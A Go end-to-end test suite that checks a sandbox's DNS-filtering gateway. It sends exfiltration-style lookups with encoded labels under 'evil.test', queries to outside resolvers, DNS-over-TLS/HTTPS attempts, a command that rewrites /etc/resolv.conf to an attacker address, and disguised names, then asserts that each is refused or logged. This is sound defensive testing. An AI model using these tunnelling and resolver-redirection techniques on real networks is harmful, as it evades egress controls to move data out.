package e2e

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"

	"tagout/internal/audit"
	"tagout/internal/practice"
	"tagout/internal/reason"
)

// DNS types, classes and answers, as they are on the wire.
const (
	typeA, typeMX, typeTXT, typeAAAA, typeSRV, typeSVCB, typeHTTPS, typeANY = 1, 15, 16, 28, 33, 64, 65, 255

	classIN, classCH = 1, 3

	rcodeOK, rcodeFormat, rcodeRefused, rcodeBadVersion = 0, 1, 5, 16
)

// wireName writes labels as they are, with whatever bytes they hold.
func wireName(labels ...string) []byte {
	var out []byte
	for _, l := range labels {
		out = append(append(out, byte(len(l))), l...)
	}
	return append(out, 0)
}

// query is a DNS query with one question and an OPT record that offers 1,232 bytes.
func query(name string, qtype, class uint16) []byte {
	return edns(question([]string{name}, qtype, class), 0, 1232, nil)
}

// question is a query without EDNS, with a question for each name.
func question(names []string, qtype, class uint16) []byte {
	m := []byte{0x12, 0x34, 1, 0, 0, byte(len(names)), 0, 0, 0, 0, 0, 0}
	for _, name := range names {
		m = append(m, wireName(strings.Split(strings.TrimSuffix(name, "."), ".")...)...)
		m = binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(m, qtype), class)
	}
	return m
}

// edns adds an OPT record.
func edns(m []byte, version byte, size uint16, option []byte) []byte {
	m = slices.Clone(m)
	m[11] = 1
	m = append(m, 0, 0, 41)
	m = append(binary.BigEndian.AppendUint16(m, size), 0, version, 0, 0)
	return append(binary.BigEndian.AppendUint16(m, uint16(len(option))), option...)
}

// overTCP puts a length in front.
func overTCP(m []byte) []byte {
	return append(binary.BigEndian.AppendUint16(nil, uint16(len(m))), m...)
}

// reply is what a DNS answer says: its code, extended by the OPT record, and how many answers it brings.
type reply struct {
	rcode, answers int
	text           string // of the extended error; whatever follows the OPT record's fixed part
}

// readReply reads an answer as far as these tests need it; ok is false where it is none to query.
func readReply(query, m []byte) (r reply, ok bool) {
	if len(m) < 12 || m[2]&0x80 == 0 || string(m[:2]) != string(query[:2]) {
		return r, false
	}
	r.rcode, r.answers = int(m[3]&15), int(binary.BigEndian.Uint16(m[6:]))
	// The OPT record is the last one: root, type 41, size, extended code, version, flags, length.
	if at := strings.LastIndex(string(m), "\x00\x00\x29"); at >= 12 && len(m) >= at+11 {
		r.rcode |= int(m[at+5]) << 4
		r.text = string(m[at+11:])
	}
	return r, true
}

func (c *cases) ask(m []byte) step {
	return step{Kind: "udp", Host: c.gateway(), Port: 53, Send: [][]byte{m}, Any: true}
}

// resolve asks the gateway each query over UDP and returns the replies. Silence fails the test.
func (c *cases) resolve(kid string, queries ...[]byte) []reply {
	c.t.Helper()
	steps := make([]step, len(queries))
	for i, q := range queries {
		steps[i] = c.ask(q)
	}
	replies := make([]reply, len(queries))
	for i, o := range c.attack(kid, steps...) {
		var ok bool
		if replies[i], ok = readReply(queries[i], o.Data); !ok {
			c.t.Errorf("query %d got no answer: %+v", i, o)
		}
	}
	return replies
}

// E01. What would be seen without the protection: the practice resolver counts every query, and the last check
// shows that names which are allowed do reach it.
func (c *cases) dataInNames() {
	name := strings.Repeat("mfrggzdfmz", 5) + ".evil.test"
	out := c.attack(c.kid.Name,
		step{Kind: "lookup", Host: name, Port: 80},
		c.proxied("GET http://"+name+"/ HTTP/1.1\r\nHost: "+name+"\r\nConnection: close\r\n\r\n"),
		c.proxied("GET http://plain.vendor.test:8081/v1/x HTTP/1.1\r\nHost: plain.vendor.test:8081\r\nConnection: close\r\n\r\n"))
	if out[0].Error != "no such name" {
		c.t.Errorf("the lookup: %+v", out[0])
	}
	c.wantProblem("the explicit proxy", out[1], reason.NameNotAllowed)
	c.box.WaitRecord("the lookup", func(r *audit.Record) bool {
		return r.Event == audit.EventLookup && r.Outcome == audit.OutcomeDeny && r.Dst.Name == name && r.Reason == reason.NameNotAllowed
	})
	if n := c.box.Net.DNS.Count("evil.test"); n != 0 {
		c.t.Errorf("%d queries for a denied name left the box", n)
	}
	if c.box.Net.DNS.Count("plain.vendor.test") == 0 {
		c.t.Errorf("no query for an allowed name reached the resolver: the check above proves nothing: %q", out[2].Data)
	}
}

// E02. Its twin without the protection is every kid with a card: see E06, where the same resolver answers.
func (c *cases) emptyAllowlist() {
	kid := c.box.Spawn(bareCard, nil)
	q, dns, evil := query(practice.NameAPI, typeA, classIN), c.box.Net.DNSAddr().String(), c.box.Net.EvilAddr().String()
	out := c.attack(kid.Name, c.ask(q),
		step{Kind: "tcp", Host: c.gateway(), Port: 53, Send: [][]byte{overTCP(q)}, Any: true},
		step{Kind: "udp", Host: evil, Port: 53, Send: [][]byte{q}}, step{Kind: "tcp", Host: evil, Port: 53},
		step{Kind: "udp", Host: dns, Port: 53, Send: [][]byte{q}}, step{Kind: "tcp", Host: dns, Port: 53},
		step{Kind: "lookup", Host: practice.NameAPI, Port: 443})
	out[1].Data = out[1].Data[min(2, len(out[1].Data)):]
	for i, o := range out[:2] {
		if r, ok := readReply(q, o.Data); !ok || r.rcode != rcodeRefused || !strings.Contains(r.text, reason.NameNotAllowed.String()) {
			c.t.Errorf("the gateway, way %d: %+v %+v", i, r, o)
		}
	}
	for i, o := range out[2:6] {
		if o.Error != "EPERM" {
			c.t.Errorf("another resolver, way %d: %+v", i, o)
		}
	}
	if out[6].Error != "no such name" {
		c.t.Errorf("the C library: %+v", out[6])
	}
	if o := c.box.Sh(kid.Name, "echo nameserver "+evil+" > /etc/resolv.conf"); o.Exit.Code == 0 {
		c.t.Error("/etc/resolv.conf can be edited")
	}
	for _, a := range []string{evil, dns} {
		c.waitDenied("DNS to "+a, kid, 2, to(a, 53))
	}
	c.box.WaitRecord("the lookups", func(r *audit.Record) bool {
		return r.Session == kid.Session && r.Event == audit.EventLookup && r.Outcome == audit.OutcomeDeny && r.Dst.Name == practice.NameAPI
	})
	c.box.Destroy(kid.Name)
}

// E03. With the programs off the same calls get out: bpf's TestCallsSucceedWithoutPrograms.
func (c *cases) otherResolvers() {
	good, bad := query(practice.NameAPI, typeA, classIN), query("tcp."+practice.NameEvil, typeA, classIN)
	evil := c.box.Net.EvilAddr().String()
	out := c.attack(c.kid.Name,
		step{Kind: "tcp", Host: c.gateway(), Port: 53, Send: [][]byte{overTCP(good)}, Any: true},
		step{Kind: "tcp", Host: c.gateway(), Port: 53, Send: [][]byte{overTCP(bad)}, Any: true},
		step{Kind: "tcp", Host: evil, Port: 853}, step{Kind: "tcp", Host: c.gateway(), Port: 853},
		step{Kind: "tcp", Host: evil, Port: 443}, step{Kind: "lookup", Host: "dns.google", Port: 443},
		c.proxied("CONNECT dns.google:443 HTTP/1.1\r\nHost: dns.google\r\n\r\n"),
		c.proxied("CONNECT "+practice.NameAPI+":853 HTTP/1.1\r\nHost: x\r\n\r\n"))
	for i, want := range []int{rcodeOK, rcodeRefused} {
		q := [][]byte{good, bad}[i]
		if r, ok := readReply(q, out[i].Data[min(2, len(out[i].Data)):]); !ok || r.rcode != want || r.answers != 1-i {
			c.t.Errorf("over TCP, query %d: %+v %+v", i, r, out[i])
		}
	}
	for i, o := range out[2:5] {
		if o.Error != "EPERM" {
			c.t.Errorf("encrypted DNS, way %d: %+v", i, o)
		}
	}
	if out[5].Error != "no such name" {
		c.t.Errorf("looking a resolver up: %+v", out[5])
	}
	c.wantProblem("DNS over HTTPS by name", out[6], reason.NameNotAllowed)
	c.wantProblem("DNS over TLS by an allowed name", out[7], reason.PortNotAllowed)
	for _, r := range c.waitDenied("DNS over TLS", c.kid, 1, to(evil, 853)) {
		if r.Reason != reason.DoT {
			c.t.Errorf("DNS over TLS is called %v", r.Reason)
		}
	}
	c.waitDenied("DNS over TLS to the gateway", c.kid, 1, to(c.gateway(), 853))
	c.waitDenied("DNS over HTTPS", c.kid, 1, to(evil, 443))
}

// noise is the same random bytes every time.
func noise(n int) []byte {
	rng, out := rand.New(rand.NewPCG(7, 1400)), make([]byte, n)
	for i := range out {
		out[i] = byte(rng.Uint32())
	}
	return out
}

// E04.
func (c *cases) randomToResolver() {
	evil, random := c.box.Net.EvilAddr().String(), noise(1400)
	random[2] |= 0x80 // looks like an answer, which nobody may answer
	before := len(c.denied(c.kid, to(evil, 53)))
	out := c.attack(c.kid.Name,
		step{Kind: "udp", Host: c.gateway(), Port: 53, Send: [][]byte{random}},
		step{Kind: "udp", Host: evil, Port: 53, Send: [][]byte{random}},
		c.ask(query(practice.NameAPI, typeA, classIN)))
	if out[1].Error != "EPERM" {
		c.t.Errorf("to another resolver: %+v", out[1])
	}
	if r, ok := readReply([]byte{0x12, 0x34}, out[2].Data); !ok || r.answers != 1 {
		c.t.Errorf("the filter stopped serving: %+v", out[2])
	}
	c.waitDenied("noise to the filter", c.kid, 1, func(r *audit.Record) bool {
		return r.Event == audit.EventLookup && r.Reason == reason.Malformed
	})
	c.waitDenied("noise to another resolver", c.kid, uint64(before)+1, to(evil, 53))
}

// E05. The codes of many more such queries: dnsfilter's TestOddQueries.
func (c *cases) oddQueries() {
	plain := question([]string{practice.NameAPI}, typeA, classIN)
	cookie := []byte{0, 10, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7}
	for i, r := range c.resolve(c.kid.Name,
		edns(plain, 0, 1232, cookie), edns(plain, 0, 4096, nil), edns(plain, 1, 1232, nil),
		question([]string{practice.NameAPI, practice.NameEvil}, typeA, classIN),
		query(practice.NameAPI, typeANY, classIN), query(practice.NameAPI, typeA, classCH)) {
		want := []reply{{rcode: rcodeOK, answers: 1}, {rcode: rcodeOK, answers: 1}, {rcode: rcodeBadVersion},
			{rcode: rcodeFormat}, {rcode: rcodeOK, answers: 1}, {rcode: rcodeRefused}}[i]
		if r.rcode != want.rcode || r.answers != want.answers {
			c.t.Errorf("query %d: %+v, want %+v", i, r, want)
		}
	}
}

// E06. The practice resolver would answer AAAA for evil.test, and any resolver out there whatever it likes: a kid
// sees none of it, because no query of its own ever reaches one.
func (c *cases) otherTypes() {
	types := []uint16{typeA, typeAAAA, typeHTTPS, typeSVCB, typeMX, typeTXT, typeSRV}
	var queries [][]byte
	for _, t := range types {
		queries = append(queries, query(practice.NameAPI, t, classIN))
	}
	for i, r := range c.resolve(c.kid.Name, queries...) {
		want := 0
		if types[i] == typeA {
			want = 1
		}
		if r.rcode != rcodeOK || r.answers != want {
			c.t.Errorf("type %d: %+v", types[i], r)
		}
	}
	for _, q := range c.box.Net.DNS.Queries() {
		if q.Type != "A" && !c.inside(q.From) {
			c.t.Errorf("a query of type %s for %s left the box", q.Type, q.Name)
		}
	}
}

// E07. Labels and names that are too long are FORMERR on the wire and invalid names to the proxy.
func (c *cases) namesInDisguise() {
	raw := func(name []byte) []byte {
		return append(append([]byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, name...), 0, typeA, 0, classIN)
	}
	var long []byte
	for range 4 {
		long = append(long, wireName(strings.Repeat("a", 63))[:64]...)
	}
	for i, r := range c.resolve(c.kid.Name,
		query("API.Vendor.Test.", typeA, classIN), query("XN--BCHER-KVA.vendor.test", typeA, classIN),
		raw(wireName(strings.Repeat("a", 64), "vendor", "test")), raw(append(long, 0)), query("bücher.vendor.test", typeA, classIN)) {
		if want := []int{rcodeOK, rcodeOK, rcodeFormat, rcodeFormat, rcodeRefused}[i]; r.rcode != want {
			c.t.Errorf("query %d: %+v, want code %d", i, r, want)
		}
	}
	out := c.attack(c.kid.Name,
		step{Kind: "lookup", Host: "API.Vendor.Test.", Port: 443}, step{Kind: "lookup", Host: "bücher.vendor.test", Port: 443},
		step{Kind: "lookup", Host: "api.vendor.test..", Port: 443}, step{Kind: "lookup", Host: strings.Repeat("a", 64) + ".vendor.test", Port: 443})
	for i, o := range out {
		if got, want := o.Error == "", i < 2; got != want {
			c.t.Errorf("lookup %d: %+v", i, o)
		}
	}
	connect := func(host string) step {
		return c.proxied("CONNECT " + host + ":443 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
	}
	for i, o := range c.attack(c.kid.Name, connect("api.vendor.test.."), connect(strings.Repeat("a", 64)+".vendor.test"),
		connect(strings.Repeat("a.", 126)+"test")) {
		c.wantProblem(fmt.Sprintf("CONNECT %d", i), o, reason.NameInvalid)
	}
	if o := c.attack(c.kid.Name, step{Kind: "tcp", Host: c.gateway(), Port: 3128, Until: []byte("\r\n\r\n"),
		Send: [][]byte{[]byte("CONNECT API.Vendor.Test.:443 HTTP/1.1\r\nHost: x\r\n\r\n")}})[0]; !strings.HasPrefix(string(o.Data), "HTTP/1.1 200 ") {
		c.t.Errorf("CONNECT with capitals and a dot: %+v", o)
	}
}

// E08. The card names intranet, and nothing else of one label.
func (c *cases) singleLabels() {
	var queries [][]byte
	names := []string{"intranet", "metadata", "localhost", "kubernetes"}
	for _, name := range names {
		queries = append(queries, query(name, typeA, classIN))
	}
	for i, r := range c.resolve(c.kid.Name, queries...) {
		if allowed := i == 0; allowed != (r.rcode == rcodeOK && r.answers == 1) || !allowed && r.rcode != rcodeRefused {
			c.t.Errorf("%s: %+v", names[i], r)
		}
	}
	for _, name := range names[1:] {
		c.waitDenied("the name "+name, c.kid, 1, named(name))
		o := c.attack(c.kid.Name, c.proxied("GET http://"+name+"/ HTTP/1.1\r\nHost: "+name+"\r\nConnection: close\r\n\r\n"))[0]
		c.wantProblem(name, o, reason.NameNotAllowed)
	}
}

// E16. What matches, matches: the queries for the wildcard and the exact name pass, so that the others mean
// something.
func (c *cases) almostTheName() {
	raw := func(labels ...string) []byte {
		return append(append([]byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, wireName(labels...)...), 0, typeA, 0, classIN)
	}
	queries := [][]byte{
		raw("api", "vendor", "test"), raw("any", "turn", "test"), // as the card has them
		raw("evil\x00", "api", "vendor", "test"), raw("evil\x00.api", "vendor", "test"), raw("api.vendor", "test"),
		raw("api", "vendor", "test", "evil", "test"), raw("xapi", "vendor", "test"), raw("xturn", "test"),
		raw("turn", "test"), raw("a", "b", "turn", "test"), raw("*", "turn", "test"), raw("a\n", "turn", "test"),
	}
	for i, r := range c.resolve(c.kid.Name, queries...) {
		if allowed := i < 2; allowed != (r.rcode == rcodeOK) || !allowed && r.rcode != rcodeRefused {
			c.t.Errorf("query %d, %q: %+v", i, queries[i], r)
		}
	}
	for name, want := range map[string]reason.Code{
		"evil\x00.api.vendor.test": reason.NotHTTP, "evil%00.api.vendor.test": reason.NameInvalid,
		"api.vendor.test.evil.test": reason.NameNotAllowed, "xapi.vendor.test": reason.NameNotAllowed,
	} {
		o := c.attack(c.kid.Name, c.proxied("CONNECT "+name+":443 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))[0]
		c.wantProblem(fmt.Sprintf("CONNECT %q", name), o, want)
	}
}
